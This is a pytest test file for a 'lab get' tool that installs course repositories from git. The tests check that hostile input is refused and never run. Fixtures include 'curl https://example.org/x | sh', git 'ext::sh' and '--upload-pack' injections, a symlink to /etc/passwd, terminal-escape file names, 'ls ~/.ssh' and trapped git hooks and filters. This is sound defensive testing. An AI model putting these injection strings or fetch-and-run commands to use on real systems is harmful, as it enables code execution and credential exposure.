"""lab get: a course from elsewhere, with the real git on repositories that the tests make. It is looked through, shown, asked about, installed and
pinned, and nothing of it is ever run unasked. What cannot be installed leaves everything as it was."""
import hashlib
import json
import os
import re
import shutil
import subprocess

import pytest
from commands import lab
from terminal import Lab

GIT = {
    "GIT_AUTHOR_NAME": "A", "GIT_AUTHOR_EMAIL": "a@example.org", "GIT_COMMITTER_NAME": "A", "GIT_COMMITTER_EMAIL": "a@example.org",
    "GIT_CONFIG_NOSYSTEM": "1",
}


def git(folder, *words):
    result = subprocess.run(["git", "-C", folder, *words], capture_output=True, text=True, env={**os.environ, **GIT})
    assert result.returncode == 0, result.stderr
    return result.stdout.strip()


class Home:
    """A repository with a course, and a place where nothing was got yet."""

    def __init__(self, folder):
        self.folder = folder
        self.repository = folder / "source" / "course"
        self.courses = folder / "data" / "lab" / "courses"
        self.installed = self.courses / "course"
        self.environment = {
            **os.environ, "HOME": str(folder), "XDG_DATA_HOME": str(folder / "data"), "XDG_STATE_HOME": str(folder / "state"),
            "XDG_CONFIG_HOME": str(folder / "config"), "XDG_CACHE_HOME": str(folder / "cache"), "TMPDIR": str(folder / "tmp"),
        }
        (folder / "tmp").mkdir()
        self.repository.mkdir(parents=True)
        made = lab("new", "lab", "first", "--in", str(self.repository), env=self.environment)
        assert made.returncode == 0, made.stderr
        git(self.repository, "init", "-q", "-b", "main")
        self.commit("v1")

    @property
    def url(self):
        return f"file://{self.repository}"

    def commit(self, tag=None):
        git(self.repository, "add", "-A")
        git(self.repository, "commit", "-q", "-m", "A course", "--allow-empty")
        if tag:
            git(self.repository, "tag", tag)
        return git(self.repository, "rev-parse", "HEAD")

    def write(self, name, text):
        file = self.repository / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)
        return file

    def change(self, name, old, new):
        file = self.repository / name
        assert old in file.read_text()
        file.write_text(file.read_text().replace(old, new))

    def run(self, *words, status=0):
        result = lab(*words, env=self.environment)
        assert result.returncode == status, result.stdout + result.stderr
        return result.stdout + result.stderr

    def get(self, *words, status=0):
        return self.run("get", *words, status=status)

    def refused(self, *words, status=2):
        """What is said when nothing is installed; and nothing is left anywhere."""
        before = everything(self.courses)
        said = self.get(*words, "--yes", status=status)
        assert everything(self.courses) == before
        assert list((self.folder / "tmp").iterdir()) == []
        return said

    def origin(self):
        return json.loads((self.installed / "origin.json").read_text())

    def terminal(self, *words):
        names = ("PATH", "HOME", "XDG_DATA_HOME", "XDG_STATE_HOME", "XDG_CONFIG_HOME", "XDG_CACHE_HOME", "TMPDIR")
        return Lab(self.folder, None, rows=60, columns=110, words=words, **{name: self.environment[name] for name in names})


def everything(folder):
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()} if folder.exists() else {}


def answer(terminal, question, word):
    """Answers a question, and waits for the end of lab: everything that was shown, and the status."""
    terminal.wait_for(re.escape(question))
    terminal.type(word + "\r")
    terminal.wait(lambda: not terminal.pump(0.2) and not terminal.process.isalive(), what="the end")
    terminal.process.close()
    return terminal.text(), terminal.process.exitstatus


@pytest.fixture
def home(tmp_path):
    return Home(tmp_path)


def test_a_course_is_installed_from_a_tag_and_used_by_name(home):
    said = home.get(home.url + "@v1", "--yes")
    assert f"course, from {home.url} at v1 (commit {git(home.repository, 'rev-parse', 'v1')[:12]})" in said
    assert re.search(r"lab first: .* \(1 step\)", said)
    assert re.search(r"as root: \d+ task", said)
    assert "Installed. Go on with: lab start --lab first" in said
    assert sorted(path.name for path in home.installed.iterdir()) == ["checks", "labs", "origin.json"]
    assert re.search(r"^first: ", home.run("list"), re.M)
    assert "nothing to complain about" in home.run("lint", "--lab", "first")
    assert home.run("show", "--lab", "first", "start")
    assert home.run("show", "--lab", "first", "greeting-missing")
    assert re.search(r"^lint +1 of 1 +yes$", home.run("test", "first", "--only", "lint"), re.M)
    # Its fixtures would be beside its own labs.
    assert f"there is no folder {home.installed}/fixtures" in home.run("test", "first", "--only", "fixtures", status=1)
    classes = home.folder / "class.yaml"
    classes.write_text("format: 1\nclass: few\nlab: first\nplatform: debian13\ndefaults: {user: student}\n"
                       "machines: {front1: '10.0.{{n}}.11', back1: '10.0.{{n}}.12'}\nstudents: [ada]\n")
    assert home.run("variants", "--class", str(classes)) == "ada: the lab's own\n"
    # The program's own labs stay as they are, and the first of them is meant where nobody names one.
    assert "failover" in home.run("show", "failover")
    assert "There is no lab 'furst'" in home.run("show", "--lab", "furst", "start", status=2)


def test_machines_that_name_it_lead_to_it(home, tmp_path):
    home.get(home.url, "--yes")
    machines = tmp_path / "machines.yaml"
    machines.write_text(
        "format: 1\nlab: first\nenvironment: own\nplatform: debian13\ndefaults: {user: student, port: 1}\n"
        "machines:\n  front1: {address: 127.0.0.1}\n  back1: {address: 127.0.0.2}\n")
    result = lab("verify", "--format", "json", "--machines", str(machines), env=home.environment)
    report = json.loads(result.stdout)
    assert report["lab"] == "first" and "greeting-set" in result.stdout
    (home.installed / "labs/first/lab.yaml").write_text("format: 1\n")
    assert "is not what 'lab get' installed" in home.run("verify", "--machines", str(machines), status=2)


def test_versions(home):
    git(home.repository, "tag", "-a", "v1-signed", "-m", "A tag with a message")
    first = git(home.repository, "rev-parse", "HEAD")
    git(home.repository, "switch", "-q", "-c", "feature/more")
    home.write("labs/first/notes", "More.\n")
    second = home.commit()
    git(home.repository, "switch", "-q", "main")
    for version, commit, has in [
        ("", first, False), ("@v1", first, False), ("@v1-signed", first, False), ("@feature/more", second, True), (f"@{first}", first, False),
        (f"@{second[:9]}", second, True), (f"@{first[:9]}", first, False),
    ]:
        home.get(home.url + version, "--yes")
        assert home.origin()["commit"] == commit, version
        assert home.origin().get("version") == (version[1:] or None)
        assert (home.installed / "labs/first/notes").exists() == has
    # A folder with a version is its repository; without, it is what is there, committed or not.
    home.write("labs/first/notes", "Not committed.\n")
    home.get(f"{home.repository}@feature/more", "--yes")
    assert (home.installed / "labs/first/notes").read_text() == "More.\n"
    assert "in place of" not in home.get(str(home.repository), "--yes")
    assert (home.installed / "labs/first/notes").read_text() == "Not committed.\n" and "commit" not in home.origin()


def test_what_cannot_be_fetched_is_said(home):
    assert "has no tag, branch or commit 'v2'. The nearest name is 'v1'." in home.refused(home.url + "@v2")
    assert "has no tag, branch or commit '0123456789'" in home.refused(home.url + "@0123456789")
    assert "git could not get" in home.refused(f"file://{home.folder}/nowhere")
    assert "lab takes courses by https, ssh and file, not by 'http'." in home.refused("http://example.org/course")
    assert "There is no folder 'ext::sh -c touch% /tmp/x'" in home.refused("ext::sh -c touch% /tmp/x")
    assert "has a password in it" in home.refused("https://me:secret@example.org/course")
    assert "is not the name of a tag" in home.refused(home.url + "@--upload-pack=x")
    assert "is a file" in home.refused(str(home.repository / "labs/first/lab.yaml"))
    assert "is not a course: it has no folder 'labs/' with something in it" in home.refused(str(home.repository / "labs"))
    shutil.rmtree(home.repository / "checks")
    assert "is not a course: it has no folder 'checks/' with something in it" in home.refused(str(home.repository))
    home.commit()
    assert "is not a course: it has no folder 'checks/' with something in it" in home.refused(home.url)
    assert "Choose one with --as" in home.refused(f"file://{home.folder}/1st")
    assert "Name a SOURCE, or --list, or --remove NAME." in home.get(status=2)
    # One who has no git can still take a folder.
    environment = {**home.environment, "PATH": str(home.folder / "bin")}
    (home.folder / "bin").mkdir()
    for program in ("sh", "timeout"):
        (home.folder / "bin" / program).symlink_to(shutil.which(program))
    result = lab("get", home.url, "--yes", env=environment)
    assert result.returncode == 2 and "git is not installed" in result.stderr, result.stderr


def test_what_lint_finds_installs_nothing(home):
    home.change("labs/first/steps/01-start.yaml", "greeting-set", "greeting-sat")
    said = home.refused(str(home.repository))
    assert re.search(r"^labs/first/steps/01-start.yaml:\d+:\d+: .*greeting-sat", said, re.M), said
    assert "Nothing was installed: its author can find them with 'lab lint'." in said
    home.commit()
    assert re.search(r"^labs/first/steps/01-start.yaml:\d+:\d+: .*greeting-sat", home.refused(home.url), re.M)


def test_links_devices_and_what_is_too_much(home):
    link = home.repository / "labs/first/passwords"
    link.symlink_to("/etc/passwd")
    home.commit()
    for source in (home.url, str(home.repository)):
        assert "labs/first/passwords is a symbolic link to /etc/passwd; a course has only files and folders." in home.refused(source)
    link.unlink()
    os.mkfifo(link)
    assert "labs/first/passwords is not a file: it is a pipe, not a file." in home.refused(str(home.repository))
    link.unlink()
    with open(link, "wb") as file:
        file.truncate((16 << 20) + 1)
    home.commit()
    for source in (home.url, str(home.repository)):
        assert "labs/first/passwords is larger than 16 MiB, the most for one file." in home.refused(source)
    link.unlink()
    for number in range(5001):
        home.write(f"labs/first/many/{number}", "")
    assert "is one file too many: a course has at most 5000." in home.refused(str(home.repository))
    shutil.rmtree(home.repository / "labs/first/many")
    other = home.folder / "other"
    shutil.copytree(home.repository, other)
    git(home.repository, "-c", "protocol.file.allow=always", "submodule", "--quiet", "add", str(other), "labs/other")
    home.commit()
    assert "labs/other is another repository (a submodule)" in home.refused(home.url)


def test_names_that_would_turn_the_terminal_around(home):
    home.write("labs/first/\x1b[2Jnotes", "x")
    home.commit()
    for source in (home.url, str(home.repository)):
        assert "labs/first/?[2Jnotes is not a name for a file of a course" in home.refused(source)
    shutil.rmtree(home.repository / "labs/first", ignore_errors=True)
    lab("new", "lab", "first", "--in", str(home.repository), env=home.environment)
    shutil.rmtree(home.repository / "checks")
    git(home.repository, "checkout", "-q", "v1", "--", "labs", "checks")
    home.change("labs/first/steps/01-start.yaml", "tasks:\n", 'tasks:\n- {at: workstation, why: Because., run: "rm -rf /tmp/x\\rls\\u202e\\u001b[2K"}\n')
    said = home.get(str(home.repository), status=2)
    assert "rm -rf /tmp/x\\u{d}ls\\u{202e}\\u{1b}[2K" in said
    assert not re.search("[\x1b\u202e\r]", said)


def test_a_changed_file_is_not_used_and_comes_back(home):
    home.get(home.url + "@v1", "--yes")
    step = home.installed / "labs/first/steps/01-start.yaml"
    step.write_text(step.read_text().replace("run: ", "run: reboot; ", 1))
    for words in (["show", "--lab", "first", "start"], ["lint", "--lab", "first"], ["sandbox", "up", "--lab", "first"]):
        said = home.run(*words, status=2)
        assert "The course 'course' is not what 'lab get' installed: labs/first/steps/01-start.yaml was changed." in said
        assert f"lab get {home.url}@v1" in said
    listed = home.run("list")
    assert "is not what 'lab get' installed" in listed and not re.search(r"^first: ", listed, re.M)
    assert "not used, since it is not as it was: labs/first/steps/01-start.yaml was changed" in home.get("--list")
    said = home.get(home.url + "@v1", "--yes")
    assert "was changed after it was installed, so the two are not compared" in said
    assert "reboot" not in step.read_text()
    assert "as it was installed" in home.get("--list")
    # Nor is something written into it by lab.
    assert "stays as it is" in home.run("new", "step", "more", "--lab", "first", status=2)
    assert "as it was installed" in home.get("--list")


def test_no_lab_takes_the_place_of_another(home):
    git(home.repository, "mv", "labs/first", "labs/postgresql-backup")
    home.change("labs/postgresql-backup/lab.yaml", "lab: first", "lab: postgresql-backup")
    home.commit()
    assert "There is a lab 'postgresql-backup' already, in " in home.refused(home.url)
    # Neither when lab is called in a folder with other labs: the program's own are still there.
    elsewhere = home.folder / "elsewhere"
    lab("new", "lab", "second", "--in", str(elsewhere), env=home.environment)
    environment = {key: value for key, value in home.environment.items() if key != "LAB_PATH"}
    result = lab("get", home.url, "--yes", env=environment, cwd=elsewhere)
    assert result.returncode == 2 and "There is a lab 'postgresql-backup' already" in result.stderr
    git(home.repository, "checkout", "-q", "v1")
    home.get(home.url + "@v1", "--yes")
    other = home.folder / "other"
    shutil.copytree(home.repository, other)
    assert "There is a lab 'first' already, in the course 'course'" in home.refused(str(other))
    assert "came from" in home.refused(str(other), "--as", "course")


def test_without_a_terminal_only_yes_installs(home):
    said = home.get(home.url, status=2)
    assert "Nothing was installed. There is no terminal to ask at; --yes agrees beforehand." in said
    assert "as root" in said and not home.courses.exists()


def test_at_a_terminal_it_asks(home):
    text, status = answer(home.terminal("get", home.url), "Install it?", "no")
    assert status == 1 and "Nothing was installed." in text and not home.courses.exists()
    text, status = answer(home.terminal("get", home.url), "Install it?", "")
    assert status == 1 and not home.courses.exists()
    text, status = answer(home.terminal("get", home.url), "Install it?", "yes")
    assert status == 0 and "Installed." in text, text
    text, status = answer(home.terminal("get", "--remove", "course"), "Remove the course 'course'", "no")
    assert status == 1 and "Nothing was removed." in text and home.installed.exists()
    text, status = answer(home.terminal("get", "--remove", "course"), "Remove the course 'course'", "y")
    assert status == 0 and not home.installed.exists()


def test_the_fingerprint_can_be_handed_out_and_counted_again(home):
    home.get(home.url, "--yes")
    found = re.search("sha256:([0-9a-f]{64})", home.get("--list"))[1]
    paths = sorted(str(path.relative_to(home.installed)) for path in home.installed.rglob("*") if path.is_file() and path.name != "origin.json")
    lines = [f"{hashlib.sha256((home.installed / path).read_bytes()).hexdigest()}  {path}\n" for path in paths]
    assert hashlib.sha256("".join(lines).encode()).hexdigest() == found
    home.get("--remove", "course", "--yes")
    assert home.get("--list") == "Nothing was got yet. 'lab get SOURCE' gets a course.\n"
    wrong = "0" * 64
    for words in ([f"{home.url}#sha256:{wrong}"], [home.url, "--fingerprint", wrong]):
        said = home.refused(*words)
        assert f"named  sha256:{wrong}" in said and f"found  sha256:{found}" in said
    assert "64 hexadecimal digits" in home.refused(home.url, "--fingerprint", "abc")
    assert "Two different fingerprints" in home.refused(f"{home.url}#sha256:{wrong}", "--fingerprint", found)
    home.get(f"{home.url}@v1#sha256:{found}", "--yes")
    assert "is already installed" in home.get(home.url, "--fingerprint", f"sha256:{found.upper()}", status=0)


def test_an_update_shows_what_it_changes(home):
    home.get(home.url + "@v1", "--yes")
    home.change("labs/first/steps/01-start.yaml", "tasks:\n", "tasks:\n- {at: workstation, why: Because., run: curl https://example.org/x | sh}\n")
    step = (home.repository / "labs/first/steps/01-start.yaml").read_text()
    home.commit("v2")
    before = everything(home.courses)
    text, status = answer(home.terminal("get", home.url + "@v2"), "Replace the installed version?", "no")
    assert status == 1 and everything(home.courses) == before
    assert "What changes from the installed version (v1):" in text
    assert re.search(r"\+ labs/first/steps/01-start.yaml:\d+ task, step start of first, on this computer\s+\+ curl https://example.org/x \| sh", text), text
    text, status = answer(home.terminal("get", home.url + "@v2"), "Replace the installed version?", "yes")
    assert status == 0 and (home.installed / "labs/first/steps/01-start.yaml").read_text() == step
    assert home.origin()["version"] == "v2"
    assert [path.name for path in home.courses.iterdir()] == ["course"]
    home.write("labs/first/notes", "Nothing that runs.\n")
    home.commit("v3")
    assert "It may run what the installed version (v2) may run, and nothing else." in home.get(home.url + "@v3", "--yes")
    home.commit("v4")
    assert "is already installed" in home.get(home.url + "@v4", status=0)
    assert home.origin()["version"] == "v4"


def test_only_what_was_got_is_removed(home):
    home.get(home.url, "--yes")
    mine = home.courses / "mine"
    mine.mkdir()
    (mine / "notes").write_text("mine")
    assert "There is no course 'mine' that 'lab get' has installed." in home.get("--remove", "mine", "--yes", status=2)
    assert "There is no course 'coarse' that 'lab get' has installed. The nearest name is 'course'." in home.get("--remove", "coarse", "--yes", status=2)
    assert "There is no terminal to ask at" in home.get("--remove", "course", status=2)
    assert "lab did not install it" in home.get("--list")
    assert "Removed: course." in home.get("--remove", "course", "--yes")
    assert [path.name for path in home.courses.iterdir()] == ["mine"]


def test_show_prints_every_command_and_installs_nothing(home):
    home.change("labs/first/steps/01-start.yaml", "tasks:\n", "tasks:\n- {at: workstation, why: Because., run: ls ~/.ssh}\n")
    said = home.get(str(home.repository), "--show")
    assert re.search(r"^labs/first/steps/01-start.yaml:\d+ task, step start of first, on this computer\n    ls ~/.ssh$", said, re.M), said
    assert re.search(r"^checks/first/facts.yaml:\d+ look, table \w+, at all as \w+$", said, re.M)
    assert not home.courses.exists()
    assert "Files of this computer that are named: ~/.ssh" in home.get(str(home.repository), status=2)


def test_nothing_of_it_is_run(home):
    """Not its tasks, not its looks, not its builders, no hook, no filter, no config of the repository; and what is not committed as a part of
    the course does not come along."""
    ran = home.folder / "ran"
    trap = f"touch {ran}"
    home.change("labs/first/steps/01-start.yaml", "tasks:\n", f"tasks:\n- {{at: workstation, why: Because., run: {trap}}}\n")
    build = home.write("labs/first/sandbox/debian13/build", f"#!/bin/sh\n{trap}\n")
    build.chmod(0o755)
    home.write(".gitattributes", "* filter=trap diff=trap\nlabs/** filter=trap\n")
    home.write("labs/.gitattributes", "* filter=trap\n")
    home.write("sandbox/build-image", "mine\n")
    home.commit("v2")
    # Of the repository there, and of the person here: neither may lead to a program of the course.
    for hook in ("post-checkout", "post-merge", "pre-commit", "reference-transaction", "post-rewrite", "pre-auto-gc"):
        file = home.repository / ".git/hooks" / hook
        file.write_text(f"#!/bin/sh\n{trap}\n")
        file.chmod(0o755)
    for setting in ("filter.trap.smudge", "filter.trap.clean", "core.fsmonitor", "uploadpack.packObjectsHook", "diff.trap.textconv", "core.sshCommand"):
        git(home.repository, "config", setting, trap)
    (home.folder / "template/hooks").mkdir(parents=True)
    shutil.copy(home.repository / ".git/hooks/reference-transaction", home.folder / "template/hooks")
    (home.folder / ".gitconfig").write_text(
        f"[init]\n templateDir = {home.folder}/template\n[filter \"trap\"]\n smudge = {trap}\n required = true\n"
        f"[core]\n hooksPath = {home.folder}/template/hooks\n fsmonitor = {trap}\n")
    said = home.get(home.url + "@v2", "--yes")
    assert "labs/first/sandbox/debian13/build: a program of 2 lines" in said
    home.get(home.url + "@v2", "--show")
    for words in (
        ["get", "--list"], ["list"], ["lint", "--lab", "first"], ["show", "--lab", "first", "start"], ["show", "--lab", "first", "--all"],
        ["list", "--lab", "first"], ["report", "--help"], ["doctor", "--lab", "first"],
    ):
        lab(*words, env=home.environment)
    assert not ran.exists()
    assert {name.split("/")[1] for name in everything(home.courses)} == {"labs", "checks", "origin.json"}
    assert not [name for name in everything(home.courses) if "/." in name]


def test_ctrl_c_leaves_nothing(home):
    (home.folder / "bin").mkdir()
    slow = home.folder / "bin" / "git"
    slow.write_text(f"#!/bin/sh\necho $$ > {home.folder}/pid\nsleep 300\n")
    slow.chmod(0o755)
    home.environment["PATH"] = f"{home.folder / 'bin'}:{os.environ['PATH']}"
    terminal = home.terminal("get", home.url)
    terminal.wait(lambda: (home.folder / "pid").exists() and (home.folder / "pid").read_text().strip(), what="git")
    terminal.type("\x03")
    terminal.wait(lambda: not terminal.pump(0.2) and not terminal.process.isalive(), what="the end")
    terminal.process.close()
    assert terminal.process.exitstatus == 130 and "Stopped." in terminal.text()
    assert list((home.folder / "tmp").iterdir()) == [] and not home.courses.exists()
    assert not os.path.exists(f"/proc/{(home.folder / 'pid').read_text().strip()}")


def test_a_git_environment_leads_nowhere_else(home):
    """Called from a hook of some other repository, GIT_DIR is set."""
    environment = {**home.environment, "GIT_DIR": str(home.folder / "nowhere"), "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "protocol.allow",
                   "GIT_CONFIG_VALUE_0": "never", "GIT_INDEX_FILE": str(home.folder / "index")}
    result = lab("get", home.url, "--yes", env=environment)
    assert result.returncode == 0, result.stderr
